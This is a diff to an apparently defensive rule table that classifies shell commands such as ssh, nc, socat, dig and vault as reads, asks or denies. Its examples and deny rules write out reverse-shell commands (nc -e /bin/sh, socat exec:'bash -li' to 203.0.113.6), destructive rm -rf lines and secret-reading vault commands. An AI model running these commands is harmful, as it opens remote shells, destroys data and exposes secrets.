@@ -83,8 +83,9 @@
   (any "file:*" (deny exfiltration "Files of the machine are served to others"))
   (any "R:*" (deny escape "The machine is opened to another"))
   (word 1 "set" (any "wg? allowed-ips" (deny network-settings "The machine joins or leaves a network")))
+  (version "--version -V version --help -h")
   (word 1 "--version -V version --help -h help" (pardon remote-change))
-  (examples asks "http GET https://e" "rclone sync a b:c" "ngrok http 80"))
+  (examples reads "rclone version" asks "http GET https://e" "rclone sync a b:c" "ngrok http 80"))
 (program "aria2c axel" (class acts) (is network downloads) (style gnu)
   (flags
     "-cqVvaS -o,--out,--output=write -d,--dir=writetree -x=text -s,--split=text -j=text -k=text -n=text -U=text -H=text -i,--input-file=read
@@ -121,8 +122,9 @@
     (deny hidden-execution "Configuration from outside the workspace can name commands to run"))
   (value "-o" "proxycommand* localcommand* permitlocalcommand* knownhostscommand* pkcs11provider* securitykeyprovider*
           xauthlocation* match?exec*" (deny hidden-execution "ssh is told to run a command here"))
-  (on "-N -f" (ask acts "A tunnel stays open")) (on "-V -Q -G" (class reads))
-  (examples asks "ssh dev@build.example uptime" "ssh prod 'rm -rf /srv'" "ssh -o BatchMode=yes h ls" denies
+  (on "-N -f" (ask acts "A tunnel stays open")) (on "-V -G" (class reads))
+  (on "-Q" (none (class reads) (is local)))
+  (examples asks "ssh dev@build.example uptime" "ssh prod 'rm -rf /srv'" "ssh -o BatchMode=yes h ls" reads "ssh -Q cipher" denies
     "ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf ~' localhost" "ssh -oProxyCommand=x h" unknown
     "ssh --frob h"))
 (program "ssh-copy-id" (class acts) (is network) (style exact) (flags
@@ -188,14 +190,14 @@
      --no-shutdown --idle-timeout=text --ssl-verify --max-conns=text") (args "connect text*") (is network)
   (on "-U" (args "socket")) (on "-l --listen" (args "listen*"))
   (examples asks "nc -zv db.example 5432" "nc -l 8080" denies "nc -e /bin/sh h 1" "ncat --sh-exec sh h 1"))
-(program "socat" (class acts) (is network) (style none) (args "text*")
+(program "socat" (class acts) (is network) (style none) (args "text*") (version "-V -h")
   (ask remote-change "Two addresses are connected with each other")
   (any "exec* EXEC* Exec* system* SYSTEM* System* shell* SHELL*"
     (deny hidden-execution "socat is told to run a command")) (opaque "its addresses are not read")
   (examples asks "socat - tcp:h:1" denies "socat exec:'bash -li',pty,stderr tcp:203.0.113.6:443"))
 (program "dig host nslookup drill delv kdig whois geoiplookup nmblookup avahi-browse
           avahi-resolve dog doggo q ldapsearch" (class acts) (is network downloads) (style none) (args "text*")
-  (examples asks "dig example.com" "host x" "whois x" "dig status x"))
+  (version "-v -V -h") (examples reads "dig -v" asks "dig example.com" "host x" "whois x" "dig status x"))
 (program "resolvectl systemd-resolve" (class acts) (is network) (style none) (args "text*")
   (word 1 "status statistics --status --statistics show-cache show-server-state" (class reads) (is local)
     (any "-i* --i* -M* --m*" (is network) (unknown "is given words that the table does not list")))
@@ -332,6 +334,7 @@
   (given 2 (class acts) (ask service "A server is started or changed"))
   (examples reads "nginx -v" "apachectl -V" asks "nginx -s reload" "nginx -t" denies "httpd -h /home/dev"))
 (program "vault consul nomad etcdctl" (class acts) (is network) (style none) (args "text*")
+  (version "version --version -v")
   (ask remote-change "A service that others use is asked or changed")
   (word 1 "version --version -v status help" (class reads) (pardon remote-change))
   (any "read kv unwrap token" (any "get read unwrap lookup -field*" (deny secret "A stored secret is shown")))
@@ -339,7 +342,7 @@
     (any "-recurse --from-key* --prefix -purge --all disable gc destroy"
       (deny destruction "What a service holds is deleted")))
   (examples asks "consul members" denies "vault kv get secret/db" "consul kv delete -recurse"
-    "vault secrets disable secret/" asks "vault version"))
+    "vault secrets disable secret/" reads "vault version"))
 (program "telnetd tmate gotty-server wssh websocketd shellinaboxd sshx upterm teleconsole" (class acts) (style none)
   (args "text*")
   (deny escape "A shell is offered to others on the network") (word 1 "--version -V --help" (class reads) (pardon
